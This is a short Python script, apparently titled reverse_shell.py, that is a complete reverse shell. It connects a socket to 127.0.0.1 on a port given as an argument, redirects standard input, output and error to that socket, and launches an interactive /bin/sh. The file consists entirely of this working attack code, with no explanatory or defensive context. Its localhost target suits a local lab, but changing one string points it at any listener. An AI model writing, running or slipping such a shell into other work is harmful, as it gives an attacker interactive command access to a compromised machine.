"""usage: python3 reverse_shell.py PORT"""
import os, socket, subprocess, sys

caller = socket.socket()
caller.connect(("127.0.0.1", int(sys.argv[1])))
for stream in range(3):
    os.dup2(caller.fileno(), stream)
subprocess.call(["/bin/sh", "-i"])
